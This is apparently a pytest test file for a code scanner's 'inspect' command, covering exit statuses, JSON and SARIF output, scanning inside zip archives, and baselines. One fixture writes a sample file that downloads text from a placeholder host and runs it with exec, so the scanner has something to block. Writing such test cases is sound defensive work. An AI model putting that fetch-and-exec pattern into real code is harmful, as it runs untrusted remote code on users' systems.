"""`sekisho inspect`: exit status, formats, and input that is none."""

import json
import zipfile
from pathlib import Path

import pytest

from support.command import Said
from support.command import sekisho as run_command


def run(*arguments: str | Path) -> Said:
    return run_command("inspect", *arguments)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    (tmp_path / "app.py").write_text("import requests\nexec(requests.get('https://a.invalid').text)\n")
    return tmp_path


@pytest.fixture
def doubtful(tmp_path: Path) -> Path:
    (tmp_path / "build.rs").write_text("fn main() {}\n")
    return tmp_path


def test_a_chain_ends_with_status_1(hostile: Path) -> None:
    done = run(hostile)
    assert done.status == 1
    assert done.out.startswith("BLOCK\n")


def test_no_chain_ends_with_status_0(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("print(1)\n")
    done = run(tmp_path)
    assert done.status == 0
    assert done.out.startswith("NO CHAIN FOUND\n")


def test_review_ends_with_status_1_unless_only_block_shall(doubtful: Path) -> None:
    assert run(doubtful).status == 1
    assert run(doubtful, "--fail-on", "block").status == 0


def test_json_and_sarif_are_one_document_each(hostile: Path) -> None:
    assert json.loads(run(hostile, "--format", "json").out)["verdict"] == "block"
    assert json.loads(run(hostile, "--format", "sarif").out)["version"] == "2.1.0"


def test_an_archive_is_read_where_it_lies(hostile: Path) -> None:
    path = hostile / "test.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(hostile / "app.py", "task/app.py")
    assert "test.zip!/task/app.py:2" in run(path).out
    assert sorted(each.name for each in hostile.iterdir()) == ["app.py", "test.zip"]


def test_what_is_not_there_is_no_answer(tmp_path: Path) -> None:
    assert run(tmp_path / "nothing").no_answer


def test_options_may_come_first_and_a_path_may_be_called_as_a_command(
    hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert json.loads(run("--format", "json", hostile).out)["verdict"] == "block"
    (hostile / "baseline").write_text("print(1)\n")
    monkeypatch.chdir(hostile)
    assert run("./baseline").out.startswith("NO CHAIN FOUND\n")
    assert run("baseline").no_answer


def test_a_baseline_is_written_and_obeyed(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    mine = tmp_path_factory.mktemp("mine") / "baseline.json"
    written = run("baseline", hostile, "--out", mine)
    assert written.status == 0
    assert written.out.startswith("BLOCK\n")
    done = run(hostile, "--baseline", mine)
    assert done.status == 0
    assert done.out.startswith("NO CHAIN FOUND\n")
    assert "accepted by the baseline: BLOCK  remote_code at app.py:2" in done.out
    assert len(json.loads(run(hostile, "--baseline", mine, "--format", "json").out)["accepted"]) == 1
    (result,) = json.loads(run(hostile, "--baseline", mine, "--format", "sarif").out)["runs"][0]["results"]
    assert result["suppressions"][0]["kind"] == "external"
    assert run("baseline", hostile, "--out", mine).no_answer is False
    assert run("baseline", hostile, "--out", mine).status == 2


def test_a_baseline_within_the_input_is_refused_before_anything_is_read_or_written(hostile: Path) -> None:
    inside = hostile / "baseline.json"
    assert run("baseline", hostile, "--out", inside).no_answer
    assert not inside.exists()
    inside.write_text('{"sekisho_baseline": 1, "accepted": []}')
    assert run(hostile, "--baseline", inside).no_answer


def test_a_wrong_or_missing_baseline_is_no_answer(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    wrong = tmp_path_factory.mktemp("mine") / "baseline.json"
    assert run(hostile, "--baseline", wrong).no_answer
    wrong.write_text("accepted")
    assert run(hostile, "--baseline", wrong).no_answer
